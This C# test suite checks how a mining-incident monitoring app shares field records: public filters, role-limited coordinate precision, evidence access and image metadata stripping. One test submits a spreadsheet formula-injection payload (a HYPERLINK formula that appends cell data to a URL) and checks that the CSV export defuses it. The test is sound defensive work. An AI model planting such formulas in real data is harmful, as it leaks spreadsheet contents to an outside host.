using System.Net;
using System.Net.Http.Json;
using Kimberlite.Accounts;
using Kimberlite.Field;
using Microsoft.EntityFrameworkCore;

namespace Kimberlite.Tests;

/// <summary>What the field records become for others: filtered public lists, members' exports at their role's precision, visits, evidence, sites, Kobo files on the import page.</summary>
public sealed class FieldSharingTests : EmptyAppTest
{
    private static object Incident(string category, string date, string country, double latitude, double longitude) => new
    {
        clientId = Guid.NewGuid(), kind = "incident", category, occurredOn = date, latitude, longitude, severity = "serious",
        description = "Des hommes armés ont pris le chantier.", countryIso3 = country,
    };

    /// <summary>A site as IPIS published it (the empty observatory loads none).</summary>
    private Task<int> IpisSiteAsync() => App.WithDb(async db =>
    {
        var site = new MiningSite { Name = "Adouzekede", CountryIso3 = "CAF", Minerals = "diamond", Latitude = 4.794698, Longitude = 17.467914, Source = BundledSites.Source, SourceId = "webmap_CAF:1" };
        db.MiningSites.Add(site);
        await db.SaveChangesAsync(Cancel);
        return site.Id;
    });

    private async Task<int> SubmitAsync(HttpClient monitor, object submission) =>
        (await (await monitor.PostAsJsonAsync("/api/v1/field/submissions", submission, Cancel)).Content.ReadFromJsonAsync<SubmissionAnswer>(Cancel))!.Id;

    private async Task PublishAsync(HttpClient analyst, int id)
    {
        foreach (var step in new[] { "underReview", "verified" })
            (await analyst.PostAsJsonAsync($"/api/v1/field/incidents/{id}/status", new { status = step }, Cancel)).EnsureSuccessStatusCode();
        (await analyst.PostAsJsonAsync($"/api/v1/field/incidents/{id}/status", new { status = "published", publicSummary = "Violences sur un chantier." }, Cancel)).EnsureSuccessStatusCode();
    }

    [Fact]
    public async Task ThePublicListFiltersByCategoryCountryAndYearsAndExplainsABadFilter()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        await PublishAsync(analyst, await SubmitAsync(monitor, Incident("violence", "2026-11-01", "CAF", 4.36712, 18.58234)));
        await PublishAsync(analyst, await SubmitAsync(monitor, Incident("child-labour", "2025-06-01", "COD", -6.1, 22.4)));
        var reader = App.CreateClient();

        async Task<int> CountAsync(string query) => (await reader.GetFromJsonAsync<List<PublicIncidentDto>>($"/api/v1/incidents{query}", Cancel))!.Count;
        Assert.Equal(2, await CountAsync(""));
        Assert.Equal(1, await CountAsync("?category=violence"));
        Assert.Equal(1, await CountAsync("?category=childLabour&country=cod"));
        Assert.Equal(0, await CountAsync("?category=violence&country=COD"));
        Assert.Equal(1, await CountAsync("?from=2026"));
        Assert.Equal(1, await CountAsync("?to=2025"));
        Assert.Contains("\"occurredOn\":\"2026-11-01\"", await reader.GetStringAsync("/api/v1/incidents?format=geojson&from=2026&to=2026", Cancel));

        var bad = await reader.GetAsync("/api/v1/incidents?category=theft&from=2027&to=2026", Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        var problem = await bad.Content.ReadAsStringAsync(Cancel);
        Assert.Contains("childLabour", problem);
        Assert.Contains("from no later than to", problem);
    }

    [Fact]
    public async Task MembersDownloadTheirIncidentsWithTheExactPointOnlyWhereTheyAreAnalysts()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        await SubmitAsync(monitor, Incident("violence", "2026-11-01", "CAF", 4.36712, 18.58234));
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        var viewer = await People.ApiClientAsync(App, "viewer@example.org", MemberRole.Viewer, "CRAGG");
        var stranger = await People.ApiClientAsync(App, "other@example.org", MemberRole.Analyst, "RELUFA");

        var exact = await analyst.GetStringAsync("/api/v1/field/incidents?format=csv", Cancel);
        Assert.StartsWith("id,client_id,organisation,status,category,occurred_on,country_iso3,latitude,longitude,exact", exact);
        Assert.Contains(",CAF,4.36712,18.58234,true,", exact);
        Assert.Contains("\"coordinates\":[18.58234,4.36712]", await analyst.GetStringAsync("/api/v1/field/incidents?format=geojson", Cancel));
        var coarse = await viewer.GetStringAsync("/api/v1/field/incidents?format=csv", Cancel);
        Assert.Contains(",CAF,4.35,18.55,false,", coarse);
        Assert.DoesNotContain("4.36712", coarse);
        Assert.DoesNotContain("4.36712", await viewer.GetStringAsync("/api/v1/field/incidents?format=geojson", Cancel));
        Assert.Equal("[]", await stranger.GetStringAsync("/api/v1/field/incidents", Cancel));
        Assert.Single((await analyst.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents?status=submitted&category=violence", Cancel))!);
        Assert.Empty((await analyst.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents?status=published", Cancel))!);
        Assert.Equal(HttpStatusCode.BadRequest, (await analyst.GetAsync("/api/v1/field/incidents?status=done", Cancel)).StatusCode);

        // The same files from the incidents page, for a member signed in with the page.
        await People.CreateAsync(App, "page-viewer@example.org", MemberRole.Viewer, "CRAGG", twoFactor: false);
        var page = await People.SignInAsync(App, "page-viewer@example.org");
        var download = await page.GetAsync("/field/incidents?handler=Export&format=csv", Cancel);
        Assert.Equal("text/csv", download.Content.Headers.ContentType?.MediaType);
        Assert.Contains(",CAF,4.35,18.55,false,", await download.Content.ReadAsStringAsync(Cancel));
    }

    [Fact]
    public async Task VisitsAreReadByTheMembersOfTheirOrganisationOnlyAlsoAsCsv()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var site = new { Id = await IpisSiteAsync(), Name = "Adouzekede" };
        var visit = await monitor.PostAsJsonAsync("/api/v1/field/submissions", new
        {
            clientId = Guid.NewGuid(), kind = "visit", siteId = site.Id, visitedOn = "2026-10-20", workers = 85, women = 20, childrenUnder15 = 6,
            armedPresence = "nonState", armedGroup = "UPC", interference = new[] { "illegalTaxation", "buying" }, mercury = false,
        }, Cancel);
        Assert.Equal(HttpStatusCode.Created, visit.StatusCode);
        var viewer = await People.ApiClientAsync(App, "viewer@example.org", MemberRole.Viewer, "CRAGG");
        var stranger = await People.ApiClientAsync(App, "other@example.org", MemberRole.Viewer, "RELUFA");

        var listed = Assert.Single((await viewer.GetFromJsonAsync<List<VisitDto>>("/api/v1/field/visits", Cancel))!);
        Assert.Equal((site.Name, 85, "nonState", "UPC"), (listed.Site, listed.Workers, listed.ArmedPresence, listed.ArmedGroup));
        Assert.Equal(["illegalTaxation", "buying"], listed.Interference);
        var csv = await viewer.GetStringAsync("/api/v1/field/visits?format=csv", Cancel);
        Assert.StartsWith("id,organisation,site_id,site,visited_on,workers,women,children_under_15", csv);
        Assert.Contains("illegalTaxation buying", csv);
        Assert.Equal("[]", await stranger.GetStringAsync("/api/v1/field/visits", Cancel));
        Assert.Equal(HttpStatusCode.Unauthorized, (await App.CreateClient().GetAsync("/api/v1/field/visits", Cancel)).StatusCode);
    }

    [Fact]
    public async Task EvidenceIsOpenedByTheAnalystsOfTheIncidentsOrganisationAndNobodyElse()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var id = await SubmitAsync(monitor, Incident("violence", "2026-11-01", "CAF", 4.36712, 18.58234));
        var sent = await monitor.PostAsync($"/api/v1/field/incidents/{id}/evidence",
            new MultipartFormDataContent { { new ByteArrayContent("%PDF-1.4 procès-verbal"u8.ToArray()), "file", "pv.pdf" } }, Cancel);
        Assert.Equal(HttpStatusCode.Created, sent.StatusCode);
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        var stranger = await People.ApiClientAsync(App, "other@example.org", MemberRole.Analyst, "RELUFA");

        var file = Assert.Single((await analyst.GetFromJsonAsync<List<EvidenceDto>>($"/api/v1/field/incidents/{id}/evidence", Cancel))!);
        Assert.Equal(("pv.pdf", "application/pdf", false), (file.FileName, file.ContentType, file.MetadataRemoved));
        var download = await analyst.GetAsync(file.Address, Cancel);
        Assert.Equal("%PDF-1.4 procès-verbal", await download.Content.ReadAsStringAsync(Cancel));
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition?.DispositionType);

        Assert.Equal(HttpStatusCode.Forbidden, (await monitor.GetAsync($"/api/v1/field/incidents/{id}/evidence", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await monitor.GetAsync(file.Address, Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await stranger.GetAsync($"/api/v1/field/incidents/{id}/evidence", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await stranger.GetAsync(file.Address, Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await analyst.GetAsync("/api/v1/field/evidence/999999", Cancel)).StatusCode);
    }

    [Fact]
    public async Task AnAnalystAddsASiteThatOnlyTheirOrganisationChangesWhileIpisSitesStayAsPublished()
    {
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        var stranger = await People.ApiClientAsync(App, "other@example.org", MemberRole.Analyst, "RELUFA");
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var site = new { name = "Chantier de Kpawa", countryIso3 = "CAF", locality = "Berberati", latitude = 4.2612345678, longitude = 15.79, kind = "artisanal", minerals = "Diamond, gold", status = "actif", inCompliantZone = true };

        var created = await analyst.PostAsJsonAsync("/api/v1/sites", site, Cancel);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var saved = (await created.Content.ReadFromJsonAsync<SiteDto>(Cancel))!;
        Assert.Equal(("CRAGG", "diamond, gold", 4.261235, "artisanal"), (saved.Source, saved.Minerals, saved.Latitude, saved.Kind));
        Assert.Contains(await App.CreateClient().GetFromJsonAsync<List<SiteDto>>("/api/v1/sites?country=CAF", Cancel) ?? [], s => s.Id == saved.Id && s.Status == "actif");
        // Sent again (a retry over a broken connection), it is the same site.
        var again = await analyst.PostAsJsonAsync("/api/v1/sites", site, Cancel);
        Assert.Equal((HttpStatusCode.OK, saved.Id), (again.StatusCode, (await again.Content.ReadFromJsonAsync<SiteDto>(Cancel))!.Id));
        Assert.Equal(1, await App.WithDb(db => db.MiningSites.CountAsync(s => s.Name == "Chantier de Kpawa", Cancel)));

        var invalid = await analyst.PostAsJsonAsync("/api/v1/sites", new { name = "", countryIso3 = "XXX", latitude = 95, longitude = 15, kind = "open-pit" }, Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, invalid.StatusCode);
        var problem = await invalid.Content.ReadAsStringAsync(Cancel);
        foreach (var field in new[] { "name", "countryIso3", "latitude", "kind", "minerals" })
            Assert.Contains($"\"{field}\"", problem);
        Assert.Equal(HttpStatusCode.Forbidden, (await monitor.PostAsJsonAsync("/api/v1/sites", site, Cancel)).StatusCode);

        Assert.Equal(HttpStatusCode.Forbidden, (await stranger.PutAsJsonAsync($"/api/v1/sites/{saved.Id}", site with { status = "fermé" }, Cancel)).StatusCode);
        var second = (await (await analyst.PostAsJsonAsync("/api/v1/sites", site with { name = "Chantier de Kpawa II" }, Cancel)).Content.ReadFromJsonAsync<SiteDto>(Cancel))!;
        var clash = await analyst.PutAsJsonAsync($"/api/v1/sites/{second.Id}", site, Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, clash.StatusCode);
        Assert.Contains($"site {saved.Id}", await clash.Content.ReadAsStringAsync(Cancel));
        var changed = await analyst.PutAsJsonAsync($"/api/v1/sites/{saved.Id}", site with { status = "fermé" }, Cancel);
        Assert.Equal("fermé", (await changed.Content.ReadFromJsonAsync<SiteDto>(Cancel))!.Status);
        var ipis = await IpisSiteAsync();
        Assert.Equal(HttpStatusCode.Forbidden, (await analyst.PutAsJsonAsync($"/api/v1/sites/{ipis}", site, Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await analyst.PutAsJsonAsync("/api/v1/sites/999999", site, Cancel)).StatusCode);

        Assert.Equal([AuditActions.SiteCreated, AuditActions.SiteChanged],
            await App.WithDb(db => db.AuditEntries.Where(e => e.Target == $"site {saved.Id}").OrderBy(e => e.Sequence).Select(e => e.Action).ToListAsync(Cancel)));
    }

    [Fact]
    public async Task TheImportPageChecksAKoboExportWithoutRecordingItAndRefusesAnotherOrganisationsMapping()
    {
        await People.CreateAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG", twoFactor: false);
        var analyst = await People.SignInAsync(App, "analyst@example.org");
        var docs = Path.Combine(Repository.Root, "docs", "field");
        var export = await File.ReadAllBytesAsync(Path.Combine(docs, "kobo-incident-export-sample.csv"), Cancel);
        var mapping = await File.ReadAllTextAsync(Path.Combine(docs, "kobo-incident-mapping.json"), Cancel);

        async Task<string> CheckAsync(string mappingText)
        {
            var token = await People.TokenAsync(analyst, "/import");
            var form = new MultipartFormDataContent
            {
                { new StringContent(token!), "__RequestVerificationToken" },
                { new ByteArrayContent(export), "file", "kobo.csv" },
                { new ByteArrayContent(System.Text.Encoding.UTF8.GetBytes(mappingText)), "mapping", "mapping.json" },
            };
            return await (await analyst.PostAsync("/import?handler=Check", form, Cancel)).Content.ReadAsStringAsync(Cancel);
        }

        var checkedPage = await CheckAsync(mapping);
        Assert.Contains("2 soumissions lues, toutes valables : 2 nouvelles, 0 déjà enregistrées.", checkedPage);
        Assert.DoesNotContain("Exemple Informateur", checkedPage);
        Assert.Equal(0, await App.WithDb(db => db.Incidents.CountAsync(Cancel)));

        var foreign = await CheckAsync(mapping.Replace("\"CRAGG\"", "\"RELUFA\""));
        Assert.Contains("Vous n'êtes pas analyste de l'organisation que nomme le fichier de correspondance", System.Net.WebUtility.HtmlDecode(foreign));
        Assert.Contains("Le fichier de correspondance ne se lit pas", await CheckAsync("{ not json"));
        Assert.Contains("maps reporterName to no form field", await CheckAsync("""{"kind": "incident", "organisation": "CRAGG", "fields": {"clientId": "_uuid", "reporterName": null}}"""));
        Assert.Equal(0, await App.WithDb(db => db.Incidents.CountAsync(Cancel)));
    }

    [Fact]
    public async Task AnImageIsStoredFromItsPixelsAloneAndADamagedOneIsRefusedNotKept()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var id = await SubmitAsync(monitor, Incident("violence", "2026-11-01", "CAF", 4.36712, 18.58234));
        byte[] png;
        using (var image = new SixLabors.ImageSharp.Image<SixLabors.ImageSharp.PixelFormats.Rgba32>(40, 30))
        {
            SixLabors.ImageSharp.MetadataExtensions.GetPngMetadata(image.Metadata).TextData
                .Add(new SixLabors.ImageSharp.Formats.Png.PngTextData("Comment", "SECRET-PNG-TEXT GPS 4.123456,18.654321", "", ""));
            using var stream = new MemoryStream();
            SixLabors.ImageSharp.ImageExtensions.SaveAsPng(image, stream);
            png = stream.ToArray();
        }
        Assert.Contains("SECRET-PNG-TEXT", System.Text.Encoding.Latin1.GetString(png));
        MultipartFormDataContent Form(byte[] bytes, string name) => new() { { new ByteArrayContent(bytes), "file", name } };

        var sent = await monitor.PostAsync($"/api/v1/field/incidents/{id}/evidence", Form(png, "carte.gif"), Cancel);
        var stored = (await sent.Content.ReadFromJsonAsync<EvidenceDto>(Cancel))!;
        Assert.Equal(("image/png", "carte.png", true), (stored.ContentType, stored.FileName, stored.MetadataRemoved));
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        var bytes = await analyst.GetByteArrayAsync(stored.Address, Cancel);
        Assert.DoesNotContain("SECRET-PNG-TEXT", System.Text.Encoding.Latin1.GetString(bytes));
        Assert.Equal((40, 30), SixLabors.ImageSharp.Image.Identify(bytes) is { } info ? (info.Width, info.Height) : default);

        var cut = await monitor.PostAsync($"/api/v1/field/incidents/{id}/evidence", Form(png[..60], "coupee.png"), Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, cut.StatusCode);
        Assert.Contains("cannot be read", await cut.Content.ReadAsStringAsync(Cancel));
        Assert.Equal(1, await App.WithDb(db => db.EvidenceFiles.CountAsync(Cancel)));
    }

    [Fact]
    public async Task RequestsThatCannotBeReadAreAnsweredWithWhatToChange()
    {
        var monitor = await People.ApiClientAsync(App, "monitor@example.org", MemberRole.Monitor, "CRAGG");
        var analyst = await People.ApiClientAsync(App, "analyst@example.org", MemberRole.Analyst, "CRAGG");
        var viewer = await People.ApiClientAsync(App, "viewer@example.org", MemberRole.Viewer, "CRAGG");

        var badUuid = await monitor.PostAsync("/api/v1/field/submissions",
            new StringContent("""{"clientId": "not-a-uuid", "kind": "incident"}""", System.Text.Encoding.UTF8, "application/json"), Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, badUuid.StatusCode);
        Assert.Contains("$.clientId", await badUuid.Content.ReadAsStringAsync(Cancel));
        var badYear = await App.CreateClient().GetAsync("/api/v1/incidents?from=abc", Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, badYear.StatusCode);
        Assert.Contains("From", await badYear.Content.ReadAsStringAsync(Cancel));
        var noMinerals = await analyst.PostAsJsonAsync("/api/v1/sites", new { name = "Kpawa", countryIso3 = "CAF", latitude = 4.2, longitude = 15.8, kind = "artisanal", minerals = " , ," }, Cancel);
        Assert.Contains("\"minerals\"", await noMinerals.Content.ReadAsStringAsync(Cancel));

        // A description a spreadsheet would run is written as text, and a site names no exact place to a viewer.
        var site = await IpisSiteAsync();
        await SubmitAsync(monitor, new
        {
            clientId = Guid.NewGuid(), kind = "incident", category = "violence", occurredOn = "2026-11-01", latitude = 4.36712, longitude = 18.58234, severity = "serious",
            description = "=HYPERLINK(\"http://example.org/?x=\"&A1,\"voir\")", countryIso3 = "CAF", siteId = site,
        });
        var csv = await viewer.GetStringAsync("/api/v1/field/incidents?format=csv", Cancel);
        Assert.Contains(",\"'=HYPERLINK(\"\"http", csv);
        Assert.Null(Assert.Single((await viewer.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents", Cancel))!).SiteId);
        Assert.Equal(site, Assert.Single((await analyst.GetFromJsonAsync<List<IncidentDto>>("/api/v1/field/incidents", Cancel))!).SiteId);

        // The offline form's own handler: a body that is not a submission is refused, never a failure of the server.
        await People.CreateAsync(App, "page-monitor@example.org", MemberRole.Monitor, "CRAGG", twoFactor: false);
        var page = await People.SignInAsync(App, "page-monitor@example.org");
        // The form sends its anti-forgery token in a header, taken from the page's data-token.
        var token = System.Text.RegularExpressions.Regex.Match(await page.GetStringAsync("/field/new", Cancel), "data-token=\"([^\"]+)\"").Groups[1].Value;
        Assert.NotEmpty(token);
        foreach (var body in new[] { "", "null", """{"kind":"incident",""", """{"clientId":"abc"}""" })
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, "/field/new?handler=Submit") { Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json") };
            request.Headers.Add("RequestVerificationToken", token);
            var response = await page.SendAsync(request, Cancel);
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Contains("\"errors\"", await response.Content.ReadAsStringAsync(Cancel));
        }
        // A submission the page can read but not accept says what to change in the page's language.
        using var refused = new HttpRequestMessage(HttpMethod.Post, "/field/new?handler=Submit")
        {
            Content = JsonContent.Create(new { clientId = Guid.NewGuid(), kind = "incident", category = "theft", occurredOn = "2026-11-01", latitude = 4.3, longitude = 18.5, severity = "serious", countryIso3 = "CAF", description = "x" }),
        };
        refused.Headers.Add("RequestVerificationToken", token);
        var answer = await page.SendAsync(refused, Cancel);
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Contains("Utilisez l'un de : violence", System.Text.RegularExpressions.Regex.Unescape(await answer.Content.ReadAsStringAsync(Cancel)));
    }
}
